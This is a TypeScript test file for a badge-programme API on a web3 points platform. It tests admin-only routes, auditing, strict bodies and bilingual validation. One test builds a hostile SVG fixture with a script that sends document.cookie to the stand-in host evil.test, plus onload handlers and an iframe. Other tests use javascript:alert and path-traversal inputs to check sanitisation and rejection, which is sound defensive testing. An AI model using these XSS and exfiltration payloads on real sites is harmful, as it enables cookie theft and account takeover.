// Who may change badges (T8, T10): every mutating route answered for anonymous callers, signed-in users and
// administrators, with nothing changed by a refusal and every change audited; strict bodies (T9); validation
// messages in en and cn with no 500 (T12).
import { adminActions, and, badgeProgrammes, badges, desc, eq, sql } from "@dropfair/db";
import type { BadgeDetail, Programme } from "@dropfair/schemas/badges";
import { typeCodes } from "@dropfair/schemas/envelope";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildTestApp, newWallet, signIn, type TestContext } from "./helper.ts";
import { everyTableOf } from "./table-snapshot.ts";

const badgeContract = "0x5FC8d32690cc91D4c39d9d3abcBD16989F875707";
const localChain = 31337;
const admin = newWallet();
let context: TestContext;
let adminToken: string;
let userToken: string;

beforeAll(async () => {
  context = await buildTestApp({
    environment: {
      ADMIN_ADDRESSES: admin.address,
      BADGE_ADDRESSES: `${localChain}:${badgeContract}`,
      POINT_NAME: "XP",
    },
  });
  adminToken = (await signIn(context.app, admin)).token;
  userToken = (await signIn(context.app)).token;
});
afterAll(async () => {
  await context.close();
});

type Method = "POST" | "PATCH" | "PUT";

async function send<T>(method: Method, url: string, body: unknown, token?: string, language?: string) {
  const response = await context.app.inject({
    method,
    url: `/api/bounty/badges${url}`,
    headers: {
      ...(token ? { authorization: `Bearer ${token}` } : {}),
      ...(language ? { "accept-language": language } : {}),
    },
    payload: body as Record<string, unknown>,
  });
  return {
    status: response.statusCode,
    body: response.json() as { content: T; typeCode: number; message: string },
  };
}

let programmeSequence = 0;
async function programme(): Promise<Programme> {
  const code = `TEST${++programmeSequence}${Date.now() % 100_000}`;
  const created = await send<Programme>("POST", "/programmes", { code, title: "Test programme" }, adminToken);
  expect(created.status).toBe(200);
  return created.body.content;
}

const badgeBody = {
  name: "Pioneer",
  description: "For pioneers",
  rule: { kind: "points", points: 5 },
  period: "once",
  kind: "sbt",
  chainId: localChain,
};

async function badge(code: string): Promise<BadgeDetail> {
  const created = await send<BadgeDetail>("POST", `/programmes/${code}/badges`, badgeBody, adminToken);
  expect(created.status).toBe(200);
  return created.body.content;
}

const lastAudit = async () =>
  (await context.database.db.select().from(adminActions).orderBy(desc(adminActions.id)).limit(1))[0];

/** The same refusal for anonymous callers (401) and a signed-in user who is not an administrator (403). */
async function expectAdminOnly(method: Method, url: string, body: unknown) {
  const before = await lastAudit();
  const anonymous = await send(method, url, body);
  expect(anonymous.status).toBe(401);
  expect(anonymous.body).toEqual({
    content: null,
    typeCode: typeCodes.unauthorized,
    message: "Please connect your wallet and sign in first.",
  });
  const user = await send(method, url, body, userToken);
  expect(user.status).toBe(403);
  expect(user.body).toEqual({
    content: null,
    typeCode: typeCodes.adminRequired,
    message: "Administrators only.",
  });
  expect((await lastAudit())?.id).toBe(before?.id);
}

describe("administrators only (T8, T10)", () => {
  it("seeds its badges naming the points as the platform does (POINT_NAME)", async () => {
    const seeded = await context.database.db
      .select({ seed: badges.seed, description: badges.description })
      .from(badges)
      .where(sql`${badges.seed} in ('earlybird', 'first-steps', 'monthly')`)
      .orderBy(badges.id);
    expect(seeded).toEqual([
      {
        seed: "earlybird",
        description: "For the first people to earn XP on Dropfair. Soulbound: it stays with your wallet.",
      },
      { seed: "first-steps", description: "Earn your first 20 XP by finishing missions." },
      { seed: "monthly", description: "Hold 50 XP: one transferable badge each month." },
    ]);
  });

  it("POST /programmes: refused to others, created and audited for an administrator", async () => {
    await expectAdminOnly("POST", "/programmes", { code: "NOPE1", title: "x" });
    const rows = await context.database.db
      .select()
      .from(badgeProgrammes)
      .where(sql`lower(${badgeProgrammes.code}) = 'nope1'`);
    expect(rows).toEqual([]);
    const created = await send<Programme>(
      "POST",
      "/programmes",
      { code: "Season-X", title: "Season X" },
      adminToken,
    );
    expect(created.body.content).toEqual({
      code: "Season-X",
      kind: "custom",
      title: "Season X",
      description: "",
      season: 1,
      seed: null,
      badgeCount: 0,
    });
    expect(await lastAudit()).toMatchObject({ action: "badges.programme.create", targetId: "Season-X" });
    const taken = await send(
      "POST",
      "/programmes",
      { code: "season-x", title: "Again" },
      adminToken,
      "zh-cn",
    );
    expect(taken.status).toBe(409);
    expect(taken.body).toMatchObject({
      typeCode: typeCodes.badgeProgrammeCodeTaken,
      message: "已有其他计划使用此代码。",
    });
  });

  it("PATCH /programmes/:code: refused to others, the season moves on for an administrator", async () => {
    const { code } = await programme();
    await expectAdminOnly("PATCH", `/programmes/${code}`, { season: 2 });
    const edited = await send<Programme>("PATCH", `/programmes/${code}`, { season: 2 }, adminToken);
    expect(edited.body.content.season).toBe(2);
    expect(await lastAudit()).toMatchObject({ action: "badges.programme.update", details: { season: 2 } });
    // A seeded programme keeps its seed (the pages translate its texts) until an administrator edits a text.
    const seeded = await send<Programme>("PATCH", "/programmes/6QVAX5", { season: 2 }, adminToken);
    expect(seeded.body.content).toMatchObject({ seed: "growth", season: 2 });
    const retitled = await send<Programme>("PATCH", "/programmes/6QVAX5", { title: "Growth 2" }, adminToken);
    expect(retitled.body.content).toMatchObject({ seed: null, title: "Growth 2" });
    const missing = await send("PATCH", "/programmes/NOSUCH", { season: 3 }, adminToken);
    expect(missing.status).toBe(404);
    expect(missing.body.message).toBe("There is no achievement programme NOSUCH.");
  });

  it("POST /programmes/:code/badges: refused to others, created with our artwork for an administrator", async () => {
    const { code } = await programme();
    await expectAdminOnly("POST", `/programmes/${code}/badges`, badgeBody);
    const detail = await badge(code);
    expect(detail.badge).toMatchObject({
      name: "Pioneer",
      programme: code,
      image: "/api/bounty/badges/artwork/sbt.svg",
      contractAddress: badgeContract,
      state: "locked",
      holders: 0,
    });
    expect(await lastAudit()).toMatchObject({
      action: "badges.badge.create",
      targetId: String(detail.badge.id),
    });
  });

  it("PATCH /badges/:id: refused to others, edited for an administrator; period, kind and chain stay", async () => {
    const { code } = await programme();
    const { badge: created } = await badge(code);
    await expectAdminOnly("PATCH", `/badges/${created.id}`, { name: "Renamed" });
    const edited = await send<BadgeDetail>(
      "PATCH",
      `/badges/${created.id}`,
      {
        name: "Renamed",
        image: "ipfs://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/badge.png",
      },
      adminToken,
    );
    expect(edited.body.content.badge).toMatchObject({
      name: "Renamed",
      image: "https://ipfs.io/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/badge.png",
    });
    const fixed = await send("PATCH", `/badges/${created.id}`, { kind: "nft" }, adminToken);
    expect(fixed.status).toBe(400);
    const [row] = await context.database.db.select().from(badges).where(eq(badges.id, created.id));
    expect(row?.kind).toBe("sbt");
  });

  it("PUT /badges/:id/list: refused to others, the list decides eligibility for an administrator", async () => {
    const { code } = await programme();
    const { badge: created } = await send<BadgeDetail>(
      "POST",
      `/programmes/${code}/badges`,
      { ...badgeBody, rule: { kind: "list" } },
      adminToken,
    ).then((answer) => answer.body.content);
    const listed = await signIn(context.app);
    await expectAdminOnly("PUT", `/badges/${created.id}/list`, { addresses: [listed.wallet.address] });
    const saved = await send<BadgeDetail>(
      "PUT",
      `/badges/${created.id}/list`,
      { addresses: [listed.wallet.address.toLowerCase(), listed.wallet.address] },
      adminToken,
    );
    expect(saved.body.content.listed).toBe(1);
    const view = async (token: string) =>
      (
        await context.app.inject({
          method: "GET",
          url: `/api/bounty/badges/badges/${created.id}`,
          headers: { authorization: `Bearer ${token}` },
        })
      ).json().content.badge;
    expect(await view(listed.token)).toMatchObject({ state: "mintable", progress: { eligible: true } });
    expect(await view(userToken)).toMatchObject({ state: "locked", progress: { eligible: false } });
  });

  it("PUT /badges/:id/image: refused to others, checked and stored for an administrator", async () => {
    const { code } = await programme();
    const { badge: created } = await badge(code);
    const png = Buffer.from(
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
      "base64",
    );
    const dataUrl = `data:image/png;base64,${png.toString("base64")}`;
    await expectAdminOnly("PUT", `/badges/${created.id}/image`, { image: dataUrl });
    const disguised = await send(
      "PUT",
      `/badges/${created.id}/image`,
      { image: `data:image/png;base64,${Buffer.from("<svg></svg>").toString("base64")}` },
      adminToken,
      "zh-cn",
    );
    expect(disguised.status).toBe(400);
    expect(disguised.body).toMatchObject({
      typeCode: typeCodes.badgeImageInvalid,
      message: "徽章图片必须是 PNG、JPEG、WebP 或 SVG 图片。",
    });
    const big = Buffer.concat([png, Buffer.alloc(1024 * 1024)]);
    const tooLarge = await send(
      "PUT",
      `/badges/${created.id}/image`,
      { image: `data:image/png;base64,${big.toString("base64")}` },
      adminToken,
    );
    expect(tooLarge.status).toBe(413);
    expect(tooLarge.body.message).toBe("The badge image can be up to 1 MB.");
    const stored = await send<BadgeDetail>(
      "PUT",
      `/badges/${created.id}/image`,
      { image: dataUrl },
      adminToken,
    );
    const path = stored.body.content.badge.image;
    expect(path).toMatch(/^\/api\/bounty\/badges\/images\/\d+$/);
    const served = await context.app.inject({ method: "GET", url: path });
    expect(served.headers["content-type"]).toBe("image/png");
    expect(Buffer.from(served.rawPayload).equals(png)).toBe(true);
  });

  it("PUT /badges/:id/image with an SVG: refused to others, stored sanitised, served as SVG under a strict CSP", async () => {
    const { code } = await programme();
    const { badge: created } = await badge(code);
    const malicious =
      `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8" onload="alert(1)">` +
      `<script>fetch("https://evil.test/?c="+document.cookie)</script>` +
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.test"></iframe></foreignObject>` +
      `<image href="https://evil.test/track.png" width="8" height="8"/>` +
      `<circle cx="4" cy="4" r="3" fill="#0a0" onclick="alert(2)"/></svg>`;
    const dataUrl = `data:image/svg+xml;base64,${Buffer.from(malicious).toString("base64")}`;
    await expectAdminOnly("PUT", `/badges/${created.id}/image`, { image: dataUrl });
    const stored = await send<BadgeDetail>(
      "PUT",
      `/badges/${created.id}/image`,
      { image: dataUrl },
      adminToken,
    );
    expect(stored.status).toBe(200);
    const path = stored.body.content.badge.image;
    expect(path).toMatch(/^\/api\/bounty\/badges\/images\/\d+$/);
    const served = await context.app.inject({ method: "GET", url: path });
    expect(served.statusCode).toBe(200);
    expect(served.headers["content-type"]).toBe("image/svg+xml");
    expect(served.headers["x-content-type-options"]).toBe("nosniff");
    expect(served.headers["content-security-policy"]).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; sandbox",
    );
    expect(served.body).toContain('<circle cx="4" cy="4" r="3" fill="#0a0"');
    expect(served.body).not.toMatch(/script|onload|onclick|alert|foreignObject|iframe|evil\.test|<image/i);
    const [audit] = await context.database.db
      .select()
      .from(adminActions)
      .where(
        and(eq(adminActions.action, "badges.badge.image"), eq(adminActions.targetId, String(created.id))),
      );
    expect(audit?.details).toMatchObject({ contentType: "image/svg+xml" });
    for (const notSvg of ["<html><script>alert(1)</script></html>", "<svg/><svg/>", "\u0000\u00ff"]) {
      const refused = await send(
        "PUT",
        `/badges/${created.id}/image`,
        { image: `data:image/svg+xml;base64,${Buffer.from(notSvg).toString("base64")}` },
        adminToken,
      );
      expect(refused.status).toBe(400);
      expect(refused.body).toMatchObject({
        typeCode: typeCodes.badgeImageInvalid,
        message: "The badge image must be a PNG, JPEG, WebP or SVG image.",
      });
    }
  });
});

describe("signed-in routes refuse anonymous callers", () => {
  it("voucher, mint all and mint report answer 401 'Please log in first.' in en and cn", async () => {
    for (const [url, body] of [
      ["/badges/1/voucher", undefined],
      ["/vouchers", {}],
      ["/mints", { chainId: localChain, txHash: `0x${"ab".repeat(32)}` }],
    ] as const) {
      const en = await send("POST", url, body);
      expect(en.status).toBe(401);
      expect(en.body).toEqual({
        content: null,
        typeCode: typeCodes.unauthorized,
        message: "Please log in first.",
      });
      expect((await send("POST", url, body, undefined, "zh-cn")).body.message).toBe("请先登录。");
    }
  });
});

describe("bodies and validation (T9, T12)", () => {
  it("refuses extra fields such as a mint count, an owner or a programme kind", async () => {
    const { code } = await programme();
    const { badge: created } = await badge(code);
    const before = await everyTableOf(context.database.db);
    const extra = await send(
      "POST",
      `/programmes/${code}/badges`,
      { ...badgeBody, mintCount: 99 },
      adminToken,
    );
    expect(extra.status).toBe(400);
    const owner = await send(
      "POST",
      "/programmes",
      { code: "OWNED1", title: "x", kind: "earlybird" },
      adminToken,
    );
    expect(owner.status).toBe(400);
    const holders = await send("PATCH", `/badges/${created.id}`, { holders: 5 }, adminToken);
    expect(holders.status).toBe(400);
    const report = await send(
      "POST",
      "/mints",
      { chainId: localChain, txHash: `0x${"ab".repeat(32)}`, account: "x" },
      userToken,
    );
    expect(report.status).toBe(400);
    for (const [method, url, body] of [
      ["PATCH", `/programmes/${code}`, { title: "x", kind: "earlybird", season: 1 }],
      ["PUT", `/badges/${created.id}/list`, { addresses: [newWallet().address], holders: 5 }],
      ["PUT", `/badges/${created.id}/image`, { image: "data:image/png;base64,iVBORw0KGgo=", chainId: 1 }],
    ] as const) {
      expect((await send(method, url, body, adminToken)).status, `${method} ${url}`).toBe(400);
    }
    expect(await everyTableOf(context.database.db)).toEqual(before);
  });

  it("says what is wrong with a badge, in en and cn, and never answers 500", async () => {
    const { code } = await programme();
    const window = {
      ...badgeBody,
      mintStart: "2030-01-02T00:00:00Z",
      mintEnd: "2030-01-01T00:00:00Z",
    };
    const en = await send("POST", `/programmes/${code}/badges`, window, adminToken);
    expect(en.status).toBe(400);
    expect(en.body.message).toBe("The start time cannot be later than the end time");
    const cn = await send("POST", `/programmes/${code}/badges`, window, adminToken, "zh-cn");
    expect(cn.body.message).toBe("开始时间不能晚于结束时间");
    const chain = await send("POST", `/programmes/${code}/badges`, { ...badgeBody, chainId: 56 }, adminToken);
    expect(chain.body).toMatchObject({
      typeCode: typeCodes.badgeChainUnsupported,
      message: "Badges cannot be minted on chain 56 here.",
    });
    const missions = await send(
      "POST",
      `/programmes/${code}/badges`,
      { ...badgeBody, rule: { kind: "missions", missionIds: [987654] } },
      adminToken,
      "zh-cn",
    );
    expect(missions.status).toBe(400);
    expect(missions.body).toMatchObject({
      typeCode: typeCodes.badgeRuleInvalid,
      message: "规则中的任务不存在：987654。",
    });
    for (const bad of [
      { ...badgeBody, rule: { kind: "wheel_prize" } },
      { ...badgeBody, rule: { kind: "lottery", count: 1 } },
      { ...badgeBody, rule: { kind: "points", points: -1 } },
      { ...badgeBody, period: "weekly" },
      { ...badgeBody, image: "javascript:alert(1)" },
      { ...badgeBody, name: "\u200b " },
      [badgeBody],
    ]) {
      const answer = await send("POST", `/programmes/${code}/badges`, bad, adminToken);
      expect(answer.status).toBe(400);
    }
    for (const url of [
      "/badges/abc",
      "/badges/0",
      "/metadata/x/1",
      "/artwork/..%2Fsecret",
      "/achievements?programme=a",
    ]) {
      const answer = await context.app.inject({ method: "GET", url: `/api/bounty/badges${url}` });
      expect(answer.statusCode).toBe(400);
    }
  });
});
